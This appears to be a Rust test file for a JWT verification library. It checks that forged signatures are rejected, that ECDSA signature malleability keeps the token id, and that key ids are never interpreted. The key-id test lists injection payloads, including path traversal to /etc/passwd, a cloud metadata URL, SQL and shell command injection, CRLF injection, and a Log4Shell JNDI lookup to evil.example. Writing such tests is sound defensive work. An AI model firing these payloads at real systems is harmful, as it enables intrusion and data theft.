//! Published attacks that no other file covers. docs/reference/attacks.md lists all attacks, with
//! the tests of each.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use scopegate::Error;
use scopegate_issuer::{Algorithm, SigningKey};
use testkit::{
    CLIENT, KEY, assert_rejected, client_token, issuer_with_keys, verifier_for_client, verifier_trusting,
};

/// The token with another signature.
fn with_signature(token: &str, signature: &[u8]) -> String {
    let (signing_input, _) = token.rsplit_once('.').unwrap();
    format!("{signing_input}.{}", URL_SAFE_NO_PAD.encode(signature))
}

fn signature(token: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(token.rsplit_once('.').unwrap().1).unwrap()
}

// Signatures of zeros, and second forms

#[test]
fn signature_of_zeros_is_rejected() {
    for alg in Algorithm::ALL {
        let key = SigningKey::generate(alg);
        let issuer = issuer_with_keys([key.jwk()]).client(CLIENT);
        let verifier = verifier_trusting(issuer.algorithms([alg.to_string().parse().unwrap()]));
        let token = client_token().sign_with(&key);
        assert!(verifier.verify(&token).is_ok(), "{alg}");
        let length = signature(&token).len();
        for forged in [vec![0; length], vec![0xff; length], vec![0; 1], vec![0; 2 * length]] {
            assert_rejected!(verifier, with_signature(&token, &forged), Error::BadSignature { .. });
        }
    }
}

/// The order of P-256 (FIPS 186-4 §D.1.2.3).
const ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
    0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

#[test]
fn second_form_of_ecdsa_signature_changes_no_claim() {
    // SECURITY.md: if (r, s) is valid, (r, n - s) is too. It signs the same content.
    let key = SigningKey::generate(Algorithm::ES256);
    let verifier = verifier_for_client([key.jwk()]);
    let token = client_token().sign_with(&key);
    let real = signature(&token);
    let (r, s) = real.split_at(32);
    let second = with_signature(&token, &[r, &difference(&ORDER, s)].concat());
    assert_ne!(second, token);
    let id = |token: &str| verifier.verify(token).unwrap().token_id().unwrap().to_owned();
    assert_eq!(id(&second), id(&token), "`jti` tells that it is the same token");
    assert_rejected!(
        verifier,
        with_signature(&client_token().sign_with(&key), &signature(&second)),
        Error::BadSignature { .. }
    );
}

/// `a - b` of big-endian numbers of the same length.
pub(crate) fn difference(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut borrow = 0;
    let mut digits: Vec<u8> = a
        .iter()
        .zip(b)
        .rev()
        .map(|(a, b)| {
            let digit = i16::from(*a) - i16::from(*b) - borrow;
            borrow = i16::from(digit < 0);
            u8::try_from(digit.rem_euclid(256)).unwrap()
        })
        .collect();
    digits.reverse();
    digits
}

// Key ids

#[test]
fn key_id_is_compared_and_never_interpreted() {
    for kid in [
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/",
        "' UNION SELECT 'secret' -- ",
        "x' OR '1'='1",
        "| sleep 10 #",
        "$(id)",
        "%00",
        "\0",
        "\r\nX-Injected: 1",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
    ] {
        // An issuer may use any string as a key id.
        let named = KEY.clone().with_kid(kid);
        assert!(
            verifier_for_client([named.jwk()]).verify(client_token().sign_with(&named)).is_ok(),
            "{kid:?}"
        );
        let error = verifier_for_client([KEY.jwk()]).verify(client_token().sign_with(&named)).unwrap_err();
        assert!(matches!(error, Error::UnknownKey { .. }), "{error:?}");
        assert!(!error.to_string().contains(['\0', '\r', '\n']), "{error}");
    }
}
